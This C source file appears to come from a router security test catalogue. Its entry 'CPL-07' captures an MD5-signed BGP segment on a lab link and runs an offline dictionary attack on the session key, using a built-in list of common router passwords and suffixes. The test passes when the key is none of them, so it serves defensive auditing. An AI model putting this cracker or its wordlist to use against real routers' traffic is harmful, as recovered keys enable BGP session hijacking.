/* A segment of a session, captured on the link, and a list of words: whose signature is it (RFC 2385 2.0)? */
#include "lab/attacks/catalogue.h"
#include "lab/attacks/router.h"
#include "lib/check.h"

#include <errno.h>
#include <openssl/evp.h>
#include <stdio.h>
#include <string.h>

#define WAIT_MS 3000
#define MD5_LEN 16
#define MD5_OPT 19
#define ETHER	14
#define TCP	6

static const char *const cpl_07_words[] = {"admin", "backup", "bgp", "border", "change", "changeme",
	"cisco", "core", "customer", "default", "edge", "gateway", "juniper", "key", "lab",
	"letmein", "login", "manager", "master", "md5", "monitor", "network", "noc", "pass",
	"password", "peer", "peering", "private", "provider", "public", "qwerty", "root", "router",
	"routing", "secret", "security", "service", "session", "support", "telecom", "test",
	"transit", "vpn", "welcome", "zebra"};
static const char *const cpl_07_ends[] = {
	"", "1", "12", "123", "1234", "!", "2024", "2025", "2026", "01", "bgp", "md5"};

/* What is signed of the segment, and the signature. */
struct cpl_07_segment {
	uint8_t text[ATTACK_SNAP];
	size_t len;
	uint8_t sum[MD5_LEN];
};

static const uint8_t *cpl_07_signature(const uint8_t *tcp, size_t head)
{
	for (size_t at = 20; at < head && tcp[at];) {
		size_t len = tcp[at] == 1 ? 1 : at + 1 < head ? tcp[at + 1] : 0;

		if (!len || at + len > head)
			break;
		if (tcp[at] == MD5_OPT && len == MD5_LEN + 2)
			return tcp + at + 2;
		at += len;
	}
	return NULL;
}

/* Pseudo header, TCP header without options and with no checksum, data (RFC 2385 2.0). */
static void cpl_07_take(
	struct cpl_07_segment *s, const uint8_t *ip, const uint8_t *tcp, size_t head, size_t total)
{
	memcpy(s->text, ip + 12, 8);
	memcpy(s->text + 8, (const uint8_t[]){0, TCP, (uint8_t)(total >> 8), (uint8_t)total}, 4);
	memcpy(s->text + 12, tcp, 20);
	memset(s->text + 12 + 16, 0, 2);
	memcpy(s->text + 32, tcp + head, total - head);
	s->len = 32 + total - head;
}

/* A whole signed segment from the router. */
static bool cpl_07_match(const struct attack_sight *sight, void *arg)
{
	struct cpl_07_segment *s = arg;
	const uint8_t *ip = sight->octets + ETHER, *tcp = ip + 20, *sum;
	size_t total, head;

	if (sight->tagged || sight->whole > sight->len || sight->len < ETHER + 40 ||
		ip[0] != 0x45 || ip[9] != TCP || ip[15] != 1)
		return false;
	total = (size_t)(ip[2] << 8 | ip[3]) - 20;
	head = (size_t)(tcp[12] >> 4) * 4;
	if (total > sight->len - ETHER - 20 || head < 20 || head > total)
		return false;
	sum = cpl_07_signature(tcp, head);
	if (!sum)
		return false;
	memcpy(s->sum, sum, MD5_LEN);
	cpl_07_take(s, ip, tcp, head, total);
	return true;
}

static bool cpl_07_is(struct cpl_07_segment *s, const char *key)
{
	size_t n = strlen(key);
	uint8_t sum[EVP_MAX_MD_SIZE];

	if (s->len + n > sizeof s->text)
		return false;
	memcpy(s->text + s->len, key, n);
	return EVP_Digest(s->text, s->len + n, sum, NULL, EVP_md5(), NULL) == 1 &&
	       !memcmp(sum, s->sum, MD5_LEN);
}

/* Each word, also with a capital, with each end. How many were tried; found: "" unless it was. */
static unsigned cpl_07_try(struct cpl_07_segment *s, char *found, size_t cap)
{
	unsigned n = 0;
	char key[32];

	*found = 0;
	for (unsigned i = 0; i < ARRAY_LEN(cpl_07_words) * ARRAY_LEN(cpl_07_ends) * 2; i++, n++) {
		snprintf(key, sizeof key, "%s%s", cpl_07_words[i / 2 / ARRAY_LEN(cpl_07_ends)],
			cpl_07_ends[i / 2 % ARRAY_LEN(cpl_07_ends)]);
		if (i % 2)
			key[0] = (char)(key[0] - 'a' + 'A');
		if (cpl_07_is(s, key))
			snprintf(found, cap, "%s", key);
	}
	return n;
}

static void cpl_07_launch(struct attack_stage *st, struct attack_impact *out)
{
	struct cpl_07_segment s = {0};
	char text[256], found[32];
	unsigned n;

	/* so that there is something to capture; where there is no session, its SYNs are */
	attack_shell(st, "ce-a1", "vtysh -c 'clear bgp 192.168.1.1 soft in'", text, sizeof text);
	if (!attack_matched(st, "ce-a1:eth1", 1, WAIT_MS, cpl_07_match, &s)) {
		out->error = -ENOMSG;
		return;
	}
	n = cpl_07_try(&s, found, sizeof found);
	out->sent = 1;
	out->hit = *found != 0;
	snprintf(out->observed, sizeof out->observed,
		"%u words tried against one captured segment: %s", n,
		*found ? "the key is among them" : "none is the key");
}

const struct attack *attack_cpl_07(void)
{
	static const struct attack row = {
		.id = "CPL-07",
		.title = "the key of a session, looked for in a list of words",
		.clause = "RFC 2385 4.5, RFC 4364 13.2",
		.attacker = "ce-a1:eth1",
		.target = "pe1",
		.passes = "it is none of them",
		.off = ATTACK_OFF_KEY,
		.launch = cpl_07_launch,
		.legit = router_others_live,
	};

	return &row;
}
